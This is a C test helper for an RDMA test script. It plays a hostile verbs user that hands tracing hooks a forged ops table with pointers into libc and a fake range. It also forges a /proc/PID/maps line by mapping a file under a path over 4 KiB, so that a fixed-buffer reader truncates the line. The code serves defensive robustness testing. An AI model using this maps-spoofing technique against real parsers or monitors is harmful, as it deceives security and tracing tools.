// SPDX-License-Identifier: GPL-2.0
/* A hostile verbs user for test_rdma.sh: it hands the control hooks a forged ops table
 * whose pointers land in libc (mid-instruction and at a function start) and in a range
 * that only a forged /proc/PID/maps line claims: a file mapped under a path longer than
 * 4 KiB whose tail, cut by a fixed line buffer, reads as a mapping of a FIFO. Also the
 * bystander: a process calling the libc functions the forged pointers aim at.
 *   hostile attack WORKDIR FIFO LIB SECONDS   (LIB exports ibv_ack_cq_events)
 *   hostile bystander SECONDS                 (prints how many calls it made) */
#include <dlfcn.h>
#include <errno.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <infiniband/verbs.h>

#define FORGED_START 0x10000000ul
#define LINE_CUT     4223 /* what fgets with a PATH_MAX + 128 buffer reads of a line */
#define PATH_COLUMN  73   /* where the kernel starts a maps line's path */

static double now_s(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec + ts.tv_nsec / 1e9;
}

/* mkdir + open one component below dfd (paths this long cannot be named whole) */
static int down(int dfd, const char *name)
{
	int fd;

	if (mkdirat(dfd, name, 0755) && errno != EEXIST)
		return -1;
	fd = openat(dfd, name, O_DIRECTORY | O_RDONLY | O_CLOEXEC);
	close(dfd);
	return fd;
}

/* Maps a file whose maps line, cut at LINE_CUT, leaves "FORGED... INODE FIFO" as a line. */
static int map_long_path(const char *work, const char *fifo)
{
	char comp[256], forged[256], line[8192];
	size_t need, len = strlen(work) + 1;
	struct stat st;
	int dfd, fd;
	void *p;
	FILE *f;

	if (stat(fifo, &st) || fifo[0] != '/')
		return -1;
	dfd = open(work, O_DIRECTORY | O_RDONLY | O_CLOEXEC);
	need = LINE_CUT - PATH_COLUMN; /* path bytes before the forged line */
	while (dfd >= 0 && len < need) {
		size_t n = need - len - 1 > 200 ? 200 : need - len - 1;

		if (need - len - 1 - n > 0 && need - len - 1 - n < 2)
			n -= 2; /* never leave a component too short to make */
		memset(comp, 'a', n);
		comp[n] = '\0';
		dfd = down(dfd, comp);
		len += n + 1;
	}
	snprintf(forged, sizeof(forged), "%lx-%lx r-xp 00000000 00:00 %llu ", FORGED_START,
		 FORGED_START + 0x1000, (unsigned long long)st.st_ino);
	if (dfd >= 0)
		dfd = down(dfd, forged);
	/* then the FIFO's own path, as directories and a regular file at the end */
	for (char *c = strtok(strdup(fifo + 1), "/"), *next; dfd >= 0 && c; c = next) {
		next = strtok(NULL, "/");
		if (!next) {
			fd = openat(dfd, c, O_RDWR | O_CREAT | O_CLOEXEC, 0644);
			close(dfd);
			if (fd < 0 || ftruncate(fd, 4096))
				return -1;
			p = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, fd, 0);
			close(fd);
			if (p == MAP_FAILED)
				return -1;
			dfd = -2;
			break;
		}
		dfd = down(dfd, c);
	}
	if (dfd != -2)
		return -1;
	/* check the forgery as the old reader saw it */
	f = fopen("/proc/self/maps", "re");
	snprintf(forged, sizeof(forged), "%lx-", FORGED_START);
	while (f && fgets(line, 4096 + 128, f))
		if (!strncmp(line, forged, strlen(forged))) {
			printf("forged maps line: %s", line);
			fclose(f);
			return 0;
		}
	if (f)
		fclose(f);
	printf("forged maps line not formed\n");
	return 0;
}

static int attack(const char *work, const char *fifo, const char *lib, double secs)
{
	void (*ack)(struct ibv_cq *, unsigned int);
	struct ibv_context *ctx = calloc(1, sizeof(*ctx));
	struct ibv_cq *cq = calloc(1, sizeof(*cq));
	void *h = dlopen(lib, RTLD_NOW);
	char *getpid_fn = dlsym(RTLD_DEFAULT, "getpid");
	double end = now_s() + secs;

	if (!h || !ctx || !cq || !getpid_fn) {
		fprintf(stderr, "hostile: cannot load %s\n", lib);
		return 1;
	}
	ack = (void (*)(struct ibv_cq *, unsigned int))dlsym(h, "ibv_ack_cq_events");
	if (!ack || map_long_path(work, fifo)) {
		fprintf(stderr, "hostile: setup failed\n");
		return 1;
	}
	/* mid-instruction in libc; a libc function's start; the forged mapping */
	ctx->ops.post_send = (void *)(getpid_fn + 1);
	ctx->ops.post_recv = (void *)dlsym(RTLD_DEFAULT, "malloc");
	ctx->ops.poll_cq = (void *)(FORGED_START + 0x800);
	cq->context = ctx;
	printf("hostile ready: post_send %p\n", (void *)ctx->ops.post_send);
	fflush(stdout);
	while (now_s() < end) {
		ack(cq, 0);
		usleep(20000);
	}
	return 0;
}

static int bystander(double secs)
{
	pid_t (*gp)(void) = (pid_t(*)(void))dlsym(RTLD_DEFAULT, "getpid");
	double end = now_s() + secs;
	unsigned long n = 0;

	while (now_s() < end) {
		for (int i = 0; i < 1000; i++)
			if (gp() <= 0)
				return 1;
		free(malloc(64));
		n += 1000;
		usleep(1000);
	}
	printf("bystander calls %lu\n", n);
	return 0;
}

int main(int argc, char **argv)
{
	if (argc == 6 && !strcmp(argv[1], "attack"))
		return attack(argv[2], argv[3], argv[4], atof(argv[5]));
	if (argc == 3 && !strcmp(argv[1], "bystander"))
		return bystander(atof(argv[2]));
	fprintf(stderr, "usage: hostile attack WORKDIR FIFO LIB SECONDS | bystander SECONDS\n");
	return 2;
}
